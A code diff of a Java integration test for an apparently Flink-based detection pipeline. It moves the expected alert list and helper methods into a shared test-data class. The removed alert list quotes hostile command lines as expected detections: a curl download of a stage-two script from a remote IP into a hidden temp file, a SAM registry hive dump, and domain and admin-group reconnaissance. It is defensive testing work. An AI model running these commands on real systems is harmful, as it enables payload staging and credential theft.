@@ -5,7 +5,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.github.rcdetect.output.Json;
+import io.github.rcdetect.config.JobConfig;
 import io.github.rcdetect.testing.TestClusters;
+import io.github.rcdetect.testing.Testdata;
 
 import org.apache.flink.test.junit5.MiniClusterExtension;
 import org.junit.jupiter.api.Test;
@@ -22,6 +24,7 @@ import java.nio.file.Paths;
 import java.util.ArrayList;
 import java.util.Collections;
 import java.util.List;
+import java.util.Map;
 import java.util.Random;
 import java.util.concurrent.TimeUnit;
 import java.util.stream.Stream;
@@ -32,39 +35,6 @@ class BoundedRunITCase {
 
     @RegisterExtension
     static final MiniClusterExtension CLUSTER = TestClusters.extensionWithSlots(2);
-
-    /** The alerts SPEC defines for testdata/, derived by hand (README, "What testdata/ holds"). */
-    static final List<String> EXPECTED_ALERTS =
-            List.of(
-                    "R2 2026-03-10T09:14:30.412Z win-web-01 hostname.exe",
-                    "R1 2026-03-10T09:15:02.123Z win-web-01 \"C:\\Windows\\system32\\whoami.exe\" /all"
-                            + " | \"C:\\Windows\\system32\\net.exe\" user /domain",
-                    "R2 2026-03-10T09:15:05.100Z win-web-01 conhost.exe",
-                    "R2 2026-03-10T09:15:05.350Z win-web-01 whoami.exe",
-                    "R2 2026-03-10T09:15:06.020Z win-web-01 net.exe",
-                    "R1 2026-03-10T09:16:10.555Z win-web-01 \"C:\\Windows\\system32\\ipconfig.exe\" /all",
-                    "R2 2026-03-10T09:16:12.200Z win-web-01 conhost.exe",
-                    "R2 2026-03-10T09:16:12.500Z win-web-01 ipconfig.exe",
-                    "R1 2026-03-10T10:01:58.700Z lnx-db-02 curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"
-                            + " | chmod +x /tmp/.s",
-                    "R2 2026-03-10T10:02:01.000Z lnx-db-02 bash",
-                    "R2 2026-03-10T10:02:01.004Z lnx-db-02 curl",
-                    "R2 2026-03-10T10:02:01.950Z lnx-db-02 chmod",
-                    "R2 2026-03-10T11:20:30.000Z lnx-build-05 tar",
-                    "R1 2026-03-10T12:30:00.250Z win-sql-03 C:\\Windows\\system32\\cmd.exe /c \"net localgroup administrators\"",
-                    "R2 2026-03-10T12:30:04.880Z win-sql-03 cmd.exe",
-                    "R1 2026-03-10T13:45:10.000Z win-app-04 reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv",
-                    "R2 2026-03-10T13:45:16.100Z win-app-04 conhost.exe",
-                    "R2 2026-03-10T13:45:16.321Z win-app-04 reg.exe");
-
-    static final List<String> EXPECTED_DEAD_LETTERS =
-            List.of(
-                    "activity testdata/activity/1-eventhub-azure-monitor.ndjson:3 invalid_json",
-                    "activity testdata/activity/1-eventhub-azure-monitor.ndjson:5 records[1] invalid_timestamp",
-                    "activity testdata/activity/2-elastic-azure-activitylogs.ndjson:4 missing_timestamp",
-                    "process testdata/process/1-defend-windows.ndjson:7 invalid_field",
-                    "process testdata/process/2-defend-linux.ndjson:8 invalid_json",
-                    "process testdata/process/3-sysmon.ndjson:5 missing_timestamp");
 
     @TempDir Path directory;
 
@@ -95,13 +65,13 @@ class BoundedRunITCase {
     @Test
     void testdataGivesExactlyTheAlertsAndDeadLettersSpecDefines() throws Exception {
         Run run = run("testdata/activity", "testdata/process");
-        assertThat(run.alerts().stream().map(BoundedRunITCase::describe)).containsExactlyElementsOf(EXPECTED_ALERTS);
-        assertThat(run.deadLetters().stream().map(BoundedRunITCase::describeDeadLetter))
-                .containsExactlyElementsOf(EXPECTED_DEAD_LETTERS);
+        assertThat(run.alerts().stream().map(Testdata::describe)).containsExactlyElementsOf(Testdata.EXPECTED_ALERTS);
+        assertThat(run.deadLetters().stream().map(Testdata::describeDeadLetter))
+                .containsExactlyElementsOf(Testdata.EXPECTED_DEAD_LETTERS);
         assertThat(run.summary())
                 .usingRecursiveComparison()
                 .ignoringFields("seconds")
-                .isEqualTo(new RunSummary(22, 24, 6, 0, 5, 13, 0));
+                .isEqualTo(new RunSummary(22, 24, 6, 0, Map.of("R1", 5L, "R2", 13L), 0));
         assertThat(run.summary().line())
                 .matches(
                         "summary: records read activity=22 process=24, dead letters 6, late records 0,"
@@ -116,7 +86,7 @@ class BoundedRunITCase {
                         .toList();
         assertThat(tsv)
                 .containsExactlyElementsOf(
-                        EXPECTED_ALERTS.stream().map(alert -> String.join("\t", alert.split(" ", 4)).replaceAll("\t[^\t]*$", "")).toList());
+                        Testdata.EXPECTED_ALERTS.stream().map(alert -> String.join("\t", alert.split(" ", 4)).replaceAll("\t[^\t]*$", "")).toList());
     }
 
     @Test
@@ -144,8 +114,8 @@ class BoundedRunITCase {
         Run reference = run("testdata/activity", "testdata/process");
         for (long seed : new long[] {1, 2, 3}) {
             Random random = new Random(seed);
-            Path activity = scatter(lines("testdata/activity"), directory.resolve("a" + seed), random);
-            Path process = scatter(lines("testdata/process"), directory.resolve("p" + seed), random);
+            Path activity = scatter(Testdata.lines("testdata/activity"), directory.resolve("a" + seed), random);
+            Path process = scatter(Testdata.lines("testdata/process"), directory.resolve("p" + seed), random);
             Run shuffled = run(activity.toString(), process.toString());
             assertThat(withoutLocations(shuffled.alerts())).as("seed %d", seed).isEqualTo(withoutLocations(reference.alerts()));
             assertThat(withoutLocations(shuffled.deadLetters())).hasSameElementsAs(withoutLocations(reference.deadLetters()));
@@ -172,8 +142,8 @@ class BoundedRunITCase {
                         "{\"@timestamp\":\"2026-03-10T09:15:05Z\"}{\"@timestamp\":\"2026-03-10T09:15:05Z\"}",
                         "{\"records\":[1,2,{\"time\":\"nope\"}]}",
                         "{\"@timestamp\":\"" + "9".repeat(5 * 1024 * 1024) + "\"}");
-        List<String> activity = new ArrayList<>(lines("testdata/activity"));
-        List<String> process = new ArrayList<>(lines("testdata/process"));
+        List<String> activity = new ArrayList<>(Testdata.lines("testdata/activity"));
+        List<String> process = new ArrayList<>(Testdata.lines("testdata/process"));
         for (String line : garbage) {
             activity.add(random.nextInt(activity.size() + 1), line);
             process.add(random.nextInt(process.size() + 1), line);
@@ -184,7 +154,7 @@ class BoundedRunITCase {
         Files.write(invalidUtf8, new byte[] {'{', '"', 'x', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, '"', '}', '\n'});
 
         Run run = run(activityDir.toString(), processDir.toString());
-        assertThat(run.alerts().stream().map(BoundedRunITCase::describe)).containsExactlyElementsOf(EXPECTED_ALERTS);
+        assertThat(run.alerts().stream().map(Testdata::describe)).containsExactlyElementsOf(Testdata.EXPECTED_ALERTS);
         List<String> types = run.deadLetters().stream().map(d -> d.at("/error/type").asText()).sorted().toList();
         List<String> expectedTypes = new ArrayList<>();
         for (String stream : List.of("activity", "process")) {
@@ -194,7 +164,7 @@ class BoundedRunITCase {
         // process.parent.name is no field of an activity record, so that line is only bad on the process stream.
         expectedTypes.add("invalid_field");
         expectedTypes.add("invalid_json");
-        EXPECTED_DEAD_LETTERS.forEach(line -> expectedTypes.add(line.substring(line.lastIndexOf(' ') + 1)));
+        Testdata.EXPECTED_DEAD_LETTERS.forEach(line -> expectedTypes.add(line.substring(line.lastIndexOf(' ') + 1)));
         Collections.sort(expectedTypes);
         assertThat(types).isEqualTo(expectedTypes);
         JsonNode huge = run.deadLetters().stream()
@@ -244,30 +214,7 @@ class BoundedRunITCase {
         assertThat(run.summary().processRecords()).isEqualTo(3);
     }
 
-    static String describe(JsonNode alert) {
-        String rule = alert.at("/rule/id").asText();
-        String detail;
-        if (rule.equals("R1")) {
-            List<String> commandLines = new ArrayList<>();
-            alert.at("/process/command_line").forEach(line -> commandLines.add(line.asText()));
-            detail = String.join(" | ", commandLines);
-        } else {
-            detail = alert.at("/process/name").asText();
-        }
-        return rule + " " + alert.at("/@timestamp").asText() + " " + alert.at("/host/name").asText() + " " + detail;
-    }
 
-    private static String describeDeadLetter(JsonNode deadLetter) {
-        JsonNode origin = deadLetter.at("/origin");
-        return origin.at("/stream").asText()
-                + " "
-                + origin.at("/file").asText()
-                + ":"
-                + origin.at("/line").asLong()
-                + (origin.has("record_index") ? " records[" + origin.at("/record_index").asInt() + "]" : "")
-                + " "
-                + deadLetter.at("/error/type").asText();
-    }
 
     /** The documents without file and line, which change when records move between files. */
     private static List<JsonNode> withoutLocations(List<JsonNode> documents) {
@@ -280,15 +227,6 @@ class BoundedRunITCase {
         return stripped;
     }
 
-    private static List<String> lines(String folder) throws IOException {
-        List<String> lines = new ArrayList<>();
-        try (Stream<Path> files = Files.list(Paths.get(folder))) {
-            for (Path file : files.sorted().toList()) {
-                lines.addAll(Files.readAllLines(file));
-            }
-        }
-        return lines;
-    }
 
     /** Shuffles the lines into one to four files of a new folder. */
     private static Path scatter(List<String> lines, Path folder, Random random) throws IOException {
